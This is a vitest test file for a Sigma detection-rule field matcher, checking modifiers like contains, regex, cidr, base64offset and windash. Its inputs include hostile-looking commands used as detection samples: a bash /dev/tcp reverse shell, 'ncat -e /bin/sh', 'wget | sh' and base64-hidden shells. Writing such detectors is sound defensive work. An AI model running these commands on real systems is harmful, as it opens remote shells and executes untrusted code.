import { describe, expect, it } from 'vitest';
import { isMamoriError } from '@mamori/common';
import {
  base64OffsetVariants,
  compileFieldMatcher,
  fieldText,
  windashVariants,
} from '../../src/sigma/field-matcher.js';

/** A matcher over plain strings (undefined: the event lacks the field). */
function m(key: string, value: unknown): (input: string | undefined) => boolean {
  const [field = '', ...modifiers] = key.split('|');
  const matcher = compileFieldMatcher(field, modifiers, value);
  return (input) => matcher(input === undefined ? undefined : fieldText(input));
}

function refusal(key: string, value: unknown): { fault: unknown; message: string } | undefined {
  try {
    m(key, value);
  } catch (err) {
    if (isMamoriError(err)) return { fault: err.context.fault, message: err.message };
    throw err;
  }
  return undefined;
}

const b64 = (text: string) => Buffer.from(text).toString('base64');

describe('compileFieldMatcher', () => {
  it('compares plain values whole and case-insensitively', () => {
    const image = m('Image', '/usr/bin/Curl');
    expect(image('/usr/bin/curl')).toBe(true);
    expect(image('/USR/BIN/CURL')).toBe(true);
    expect(image('/usr/bin/curl2')).toBe(false);
  });

  it('takes any value of a list', () => {
    const image = m('Image', ['/bin/sh', '/bin/bash', '/usr/bin/*sh']);
    expect(image('/bin/bash')).toBe(true);
    expect(image('/usr/bin/zsh')).toBe(true);
    expect(image('/bin/dash')).toBe(false);
  });

  it('compares numbers and booleans as their text', () => {
    expect(m('DestinationPort', [888, 999])('999')).toBe(true);
    expect(m('DestinationPort', [888, 999])('9999')).toBe(false);
    expect(m('Initiated', true)('true')).toBe(true);
  });

  it('matches null and the empty string only where the field is absent', () => {
    expect(m('ParentImage', null)(undefined)).toBe(true);
    expect(m('ParentImage', null)('/bin/sh')).toBe(false);
    expect(m('ParentImage', '')(undefined)).toBe(true);
    expect(m('ParentImage', ['/bin/sh', null])(undefined)).toBe(true);
    expect(m('ParentImage', '/bin/sh')(undefined)).toBe(false);
  });

  it('contains, startswith, endswith', () => {
    expect(m('CommandLine|contains', 'base64 -d')('echo x | BASE64 -D | sh')).toBe(true);
    expect(m('CommandLine|contains', 'base64 -d')('base64 --decode')).toBe(false);
    expect(m('Image|startswith', '/tmp/')('/tmp/x')).toBe(true);
    expect(m('Image|startswith', '/tmp/')('/var/tmp/x')).toBe(false);
    expect(m('Image|endswith', '/nc')('/usr/bin/nc')).toBe(true);
    expect(m('Image|endswith', '/nc')('/usr/bin/ncat')).toBe(false);
  });

  it('keeps wildcards inside contains, startswith and endswith', () => {
    expect(m('CommandLine|contains', 'chmod ?777')('chmod 0777 f')).toBe(true);
    expect(m('CommandLine|startswith', 'python* -c')('python3 -c x')).toBe(true);
    expect(m('CommandLine|endswith', '/dev/tcp/*/4444')('bash -i >& /dev/tcp/1.2.3.4/4444')).toBe(
      true,
    );
    expect(m('CommandLine|endswith', '/dev/tcp/*/4444')('/dev/tcp/1.2.3.4/4445')).toBe(false);
  });

  it('requires every value with all', () => {
    const both = m('CommandLine|contains|all', ['wget', '| sh']);
    expect(both('wget -qO- http://x | sh')).toBe(true);
    expect(both('wget -qO- http://x')).toBe(false);
    expect(both(undefined)).toBe(false);
  });

  it('searches with RE2 regular expressions, case-sensitive unless i', () => {
    const re = m('CommandLine|re', 'nc(at)? .*-e ');
    expect(re('ncat 1.2.3.4 80 -e /bin/sh')).toBe(true);
    expect(re('NCAT 1.2.3.4 80 -e /bin/sh')).toBe(false);
    expect(m('CommandLine|re|i', 'nc(at)? .*-e ')('NCAT 1.2.3.4 80 -e /bin/sh')).toBe(true);
  });

  it('honours re|m and re|s', () => {
    expect(m('CommandLine|re', '^b$')('a\nb')).toBe(false);
    expect(m('CommandLine|re|m', '^b$')('a\nb')).toBe(true);
    expect(m('CommandLine|re', 'a.b')('a\nb')).toBe(false);
    expect(m('CommandLine|re|s', 'a.b')('a\nb')).toBe(true);
  });

  it('skips a regular expression RE2 cannot run in linear time', () => {
    expect(refusal('CommandLine|re', '(?<=x)y')?.fault).toBe('unsupported');
    expect(refusal('CommandLine|re', '(a)\\1')?.fault).toBe('unsupported');
  });

  it('tests addresses against IPv4 and IPv6 networks with cidr', () => {
    const internal = m('DestinationIp|cidr', ['10.0.0.0/8', 'fc00::/7']);
    expect(internal('10.1.2.3')).toBe(true);
    expect(internal('fd12::1')).toBe(true);
    expect(internal('8.8.8.8')).toBe(false);
    expect(refusal('DestinationIp|cidr', '10.0.0.0/40')?.fault).toBe('invalid');
  });

  it('finds a base64-encoded value at each of the three alignments with base64offset', () => {
    expect(base64OffsetVariants(Buffer.from('/bin/sh'))).toEqual([
      'L2Jpbi9za',
      '9iaW4vc2',
      'vYmluL3No',
    ]);
    const hidden = m('CommandLine|base64offset|contains', '/bin/sh');
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      expect(hidden(`echo ${b64(`${prefix}/bin/sh -i`)} | base64 -d`), prefix).toBe(true);
    }
    expect(hidden(`echo ${b64('/bin/zsh -i')}`)).toBe(false);
  });

  it('matches base64 text case-sensitively', () => {
    const hidden = m('CommandLine|base64offset|contains', '/bin/sh');
    expect(hidden(b64('x/bin/sh').toLowerCase())).toBe(false);
  });

  it('matches a plain base64 encoding with base64', () => {
    expect(m('CommandLine|base64|contains', 'id')(`echo ${b64('id')}`)).toBe(true);
    expect(m('CommandLine|base64', 'id')(b64('id'))).toBe(true);
  });

  it('encodes as UTF-16 before base64 with wide', () => {
    const wide = Buffer.from('whoami', 'utf16le').toString('base64');
    expect(m('CommandLine|wide|base64|contains', 'whoami')(`-enc ${wide}`)).toBe(true);
    expect(m('CommandLine|base64|contains', 'whoami')(`-enc ${wide}`)).toBe(false);
  });

  it('expands dashes starting a word with windash', () => {
    expect(windashVariants('-k')).toEqual(['-k', '/k', '\u2013k', '\u2014k', '\u2015k']);
    const flag = m('CommandLine|windash|contains', ' -enc ');
    expect(flag('pwsh /enc AAA')).toBe(true);
    expect(flag('pwsh \u2013enc AAA')).toBe(true);
    expect(flag('pwsh enc AAA')).toBe(false);
    // A dash inside a word is not a flag.
    expect(windashVariants('x-y')).toEqual(['x-y']);
  });

  it('tests presence with exists', () => {
    expect(m('ParentImage|exists', true)('/bin/sh')).toBe(true);
    expect(m('ParentImage|exists', true)(undefined)).toBe(false);
    expect(m('ParentImage|exists', false)(undefined)).toBe(true);
    expect(refusal('ParentImage|exists', 'maybe')?.fault).toBe('invalid');
  });

  it('compares numbers with lt, lte, gt, gte', () => {
    expect(m('DestinationPort|lt', 1024)('80')).toBe(true);
    expect(m('DestinationPort|lt', 1024)('1024')).toBe(false);
    expect(m('DestinationPort|lte', 1024)('1024')).toBe(true);
    expect(m('DestinationPort|gt', 1024)('4444')).toBe(true);
    expect(m('DestinationPort|gte', 4444)('4443')).toBe(false);
    expect(m('DestinationPort|gt', 1)('http')).toBe(false);
  });

  it('compares case-sensitively with cased', () => {
    expect(m('CommandLine|cased|contains', 'Invoke')('x Invoke y')).toBe(true);
    expect(m('CommandLine|cased|contains', 'Invoke')('x invoke y')).toBe(false);
  });

  it('skips unknown and unimplemented modifiers with a reason naming them', () => {
    expect(refusal('Image|sounds_like', 'x')).toEqual({
      fault: 'unsupported',
      message: "unknown modifier 'sounds_like'",
    });
    expect(refusal('Image|expand', '%x%')?.fault).toBe('unsupported');
    expect(refusal('Image|i', 'x')?.fault).toBe('unsupported');
  });

  it('refuses contradictory modifiers and values of the wrong shape', () => {
    expect(refusal('Image|contains|endswith', 'x')?.fault).toBe('invalid');
    expect(refusal('CommandLine|base64offset', 'x')?.fault).toBe('invalid');
    expect(refusal('Image', [])?.fault).toBe('invalid');
    expect(refusal('Image', { nested: 'map' })?.fault).toBe('invalid');
    expect(refusal('Image', [['nested']])?.fault).toBe('invalid');
    expect(refusal('DestinationPort|gt', 'many')?.fault).toBe('invalid');
  });
});
